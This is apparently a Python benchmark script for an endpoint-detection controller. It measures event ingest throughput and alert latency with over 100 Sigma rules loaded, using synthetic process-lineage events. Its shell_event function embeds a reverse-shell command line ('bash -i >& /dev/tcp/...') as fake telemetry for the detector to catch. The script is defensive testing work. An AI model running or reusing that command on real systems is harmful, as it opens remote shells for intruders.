"""Benchmark: controller ingest through ``StoreHooks`` with ≥ 100 Sigma rules loaded.

    .venv/bin/python bench/controller_ingest.py [--events 200000] [--batch 1000]
        [--variants 9] [--rate 1000] [--seconds 10] [--indexer] [--forks]

Two measurements on a real SQLite store in a temporary directory:

1. sustained: batches go through ``commit_batch`` (store commit, live hub, detection queue)
   back to back; events/s counts until detection has drained every batch (so detection
   cannot fall behind unnoticed). ``--indexer`` runs the store's full-text indexer loop
   alongside, as the controller does, and events/s then counts until the indexer has caught
   up too (every event searchable and in the process table): the backlog it had when ingest
   finished and the rate ingest alone reached are printed next to it.
2. latency: at ``--rate`` events/s (20 batches per second), every batch carries one reverse
   shell exec; the time from handing the batch to ``commit_batch`` to the alert arriving at a
   live-hub subscriber (what the websocket handler forwards) gives p50/p99.

The rule variants and the category mix come from bench/detection.py; ``lineage`` then gives
the events the process lineage the sensor reports (sensor/process_table.py ``_build_ecs``):
24-character entity ids, every process event naming its parent by entity id, pid, executable
and command line, processes exiting (with a code) as fast as they start, and with
``--forks`` a fork before each exec (the tracepoint tier reports forks only when asked to).
These are what make the indexer upsert parent stubs, as it does in production.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import random
import statistics
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
sys.path.insert(0, str(Path(__file__).resolve().parent))

from detection import MALICIOUS_EXEC, make_events, write_variants  # bench/detection.py

from backplane.messages import PROTOCOL_VERSION, Hello
from backplane.schema import Action, Tier, new_event
from controller.detection import DetectionEngine
from controller.hooks import StoreHooks
from controller.live import LiveHub, StreamFilter
from controller.maintenance import Intervals, Maintenance
from controller.metrics import Metrics
from controller.store import SQLiteStore

HOST = "bench-host"


def _entity_id(rnd: random.Random) -> str:
    return base64.urlsafe_b64encode(rnd.randbytes(18)).decode()


def lineage(
    events: list[dict[str, Any]], *, forks: bool = False, running: int = 256, seed: int = 11
) -> list[dict[str, Any]]:
    """``events`` (same length) with the process lineage a real sensor reports.

    Each exec starts a new process (new entity id and pid) whose parent is one of a few
    hundred long-lived sessions and daemons or, one time in three, another running process;
    once ``running`` processes run, half the benign execs become the exit of the oldest one
    (so the process share of the mix stays detection.py's). File and network events belong
    to a running process. Forks take the place of later events: the stream keeps its length.
    """
    rnd = random.Random(seed)
    next_pid = 10_000

    def new_proc(executable: str, command_line: str, parent: dict[str, Any] | None) -> dict:
        nonlocal next_pid
        next_pid += rnd.randint(1, 7)
        proc: dict[str, Any] = {
            "pid": next_pid,
            "entity_id": _entity_id(rnd),
            "name": executable.rsplit("/", 1)[-1],
            "executable": executable,
            "args": command_line.split(),
            "args_count": len(command_line.split()),
            "command_line": command_line,
            "working_directory": "/home/alice",
        }
        if parent is not None:
            proc["parent"] = {
                "pid": parent["pid"],
                "entity_id": parent["entity_id"],
                "name": parent["name"],
                "executable": parent["executable"],
                "command_line": parent["command_line"],
            }
        return proc

    roots = [new_proc("/usr/sbin/init", "/sbin/init", None)]
    sessions = [
        new_proc(exe, cmd, roots[0])
        for exe, cmd in (
            [("/usr/sbin/sshd", "sshd: alice [priv]")] * 40
            + [("/usr/bin/bash", "-bash")] * 120
            + [("/usr/sbin/cron", "/usr/sbin/cron -f")] * 20
            + [("/usr/bin/python3", "python3 /srv/app/worker.py")] * 60
        )
    ]
    live: list[dict[str, Any]] = []
    out: list[dict[str, Any]] = []

    def emit(action: Action, proc: dict[str, Any], template: dict[str, Any], **extra: Any) -> None:
        ev = new_event(action, host=template["host"], tier=Tier.TRACEPOINT)
        ev["process"] = dict(proc, **extra)
        ev["user"] = template.get("user", {"id": "1000", "name": "alice"})
        out.append(ev)

    for ev in events:
        if len(out) >= len(events):
            break
        proc = ev["process"]
        if ev["event"]["action"] == Action.EXEC:
            if (
                len(live) > running
                and rnd.random() < 0.5
                and (proc["executable"], proc["command_line"]) not in MALICIOUS_EXEC
            ):
                # steady state: processes exit as fast as they start
                emit(Action.EXIT, live.pop(0), ev, exit_code=rnd.choice((0, 0, 0, 1)))
                continue
            parent = rnd.choice(live) if live and rnd.random() < 1 / 3 else rnd.choice(sessions)
            child = new_proc(proc["executable"], proc["command_line"], parent)
            if forks:
                # a fork's child still runs its parent's program
                emit(
                    Action.FORK,
                    dict(
                        new_proc(parent["executable"], parent["command_line"], parent),
                        pid=child["pid"],
                        entity_id=child["entity_id"],
                    ),
                    ev,
                )
            ev["process"] = child
            out.append(ev)
            live.append(child)
        else:
            owner = rnd.choice(live) if live else rnd.choice(sessions)
            ev["process"] = dict(
                proc, pid=owner["pid"], entity_id=owner["entity_id"], parent=owner.get("parent", {})
            )
            out.append(ev)
    return out[: len(events)]


def shell_event(n: int) -> dict[str, Any]:
    ev = new_event(Action.EXEC, host={"id": HOST}, tier=Tier.TRACEPOINT)
    ev["process"] = {
        "pid": 50_000 + n,
        "entity_id": f"rs{n}",
        "executable": "/usr/bin/bash",
        "command_line": f"bash -i >& /dev/tcp/10.9.9.9/{1000 + n % 60000} 0>&1",
        "parent": {"pid": 1, "entity_id": "init"},
    }
    ev["mark"] = n
    return ev


async def sustained(
    hooks: StoreHooks,
    events: list[dict[str, Any]],
    batch: int,
    seq0: int,
    indexer: Maintenance | None,
) -> tuple[float, int]:
    t0 = time.perf_counter()
    seq = seq0
    for i in range(0, len(events), batch):
        seq += 1
        await hooks.commit_batch(HOST, seq, events[i : i + batch], 0)
    await hooks.drained()
    if indexer is None:
        return len(events) / (time.perf_counter() - t0), seq
    # An indexer that falls behind must show in the figure, not hide in a backlog.
    ingest_s = time.perf_counter() - t0
    backlog = hooks.store.pending_index_rows()
    while hooks.store.pending_index_rows():
        await asyncio.sleep(0.005)
    total_s = time.perf_counter() - t0
    print(
        f"  indexer: {indexer.runs.get('index', 0):,} turns, {indexer.folds:,} process-table "
        f"folds ({indexer.indexed:,} events looked at)"
    )
    print(
        f"  ingest alone: {len(events) / ingest_s:,.0f} events/s, leaving an indexer backlog "
        f"of {backlog:,} events, caught up {total_s - ingest_s:.2f} s later"
    )
    return len(events) / total_s, seq


async def latency(
    hooks: StoreHooks,
    hub: LiveHub,
    background: list[dict[str, Any]],
    rate: int,
    seconds: float,
    seq0: int,
) -> list[float]:
    per_tick = max(1, rate // 20)
    sub = hub.subscribe(StreamFilter.parse(kind="alert", text="10.9.9.9"), queue_size=100_000)
    sent: dict[int, float] = {}
    got: list[float] = []

    async def reader() -> None:
        while True:
            msg = await sub.next()
            mark = msg["data"]["event"].get("mark")
            if mark in sent:
                got.append(time.perf_counter() - sent.pop(mark))

    task = asyncio.create_task(reader())
    seq, pos = seq0, 0
    start = time.perf_counter()
    ticks = int(seconds * 20)
    for n, tick in enumerate(range(ticks)):
        target = start + tick / 20
        await asyncio.sleep(max(0.0, target - time.perf_counter()))
        chunk = [background[(pos + j) % len(background)] for j in range(per_tick - 1)]
        pos += per_tick - 1
        chunk.append(shell_event(n))
        sent[n] = time.perf_counter()
        seq += 1
        await hooks.commit_batch(HOST, seq, chunk, 0)
    await hooks.drained()
    await asyncio.sleep(0.2)
    task.cancel()
    sub.close()
    if sent:
        print(f"  {len(sent)} alerts never arrived", file=sys.stderr)
    return got


def pct(values: list[float], q: float) -> float:
    s = sorted(values)
    return s[min(len(s) - 1, int(q * len(s)))] * 1000


async def main_async(args: argparse.Namespace) -> int:
    with tempfile.TemporaryDirectory() as tmp:
        rules = Path(tmp) / "rules"
        rules.mkdir()
        write_variants(rules, args.variants)
        engine = DetectionEngine()
        report = engine.load([rules])
        print(f"rules: {report.summary()}")
        if len(report.loaded) < 100:
            print("fewer than 100 rules loaded", file=sys.stderr)
            return 1
        store = SQLiteStore(Path(tmp) / "controller.db")
        hub = LiveHub()
        hooks = StoreHooks(store, engine, hub, metrics=Metrics(), detection_queue=256)
        await hooks.start()
        await hooks.on_hello(
            HOST, Hello(PROTOCOL_VERSION, "1", "bench", "Linux", "6", {}, [], -1), "bench"
        )
        maint = None
        if args.indexer:
            maint = Maintenance(store, live=hub, intervals=Intervals(index_idle=0.2))
            maint.start()
        events = make_events(args.events)
        for ev in events:
            ev["host"] = {"id": HOST}
        events = lineage(events, forks=args.forks)
        rate, seq = await sustained(hooks, events, args.batch, 0, maint)
        m = hooks.metrics
        print(
            f"sustained: {rate:,.0f} events/s through StoreHooks ({args.events:,} events, "
            f"batches of {args.batch}, {m.alerts} alerts, indexer "
            f"{'on, counted until caught up' if args.indexer else 'off'})"
        )
        lat = await latency(hooks, hub, events, args.rate, args.seconds, seq)
        if lat:
            print(
                f"latency at {args.rate} events/s, commit_batch -> live subscriber: "
                f"p50 {pct(lat, 0.5):.1f} ms, p99 {pct(lat, 0.99):.1f} ms, "
                f"max {max(lat) * 1000:.1f} ms over {len(lat)} alerts "
                f"(mean {statistics.mean(lat) * 1000:.1f} ms)"
            )
        if maint is not None:
            print(f"  indexer backlog after latency run: {store.pending_index_rows():,} events")
            await maint.stop()
        await hooks.stop()
        store.close()
    return 0


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--events", type=int, default=200_000)
    p.add_argument("--batch", type=int, default=1000)
    p.add_argument("--variants", type=int, default=9)
    p.add_argument("--rate", type=int, default=1000)
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--indexer", action="store_true")
    p.add_argument("--forks", action="store_true", help="a fork event before every exec")
    return asyncio.run(main_async(p.parse_args()))


if __name__ == "__main__":
    sys.exit(main())
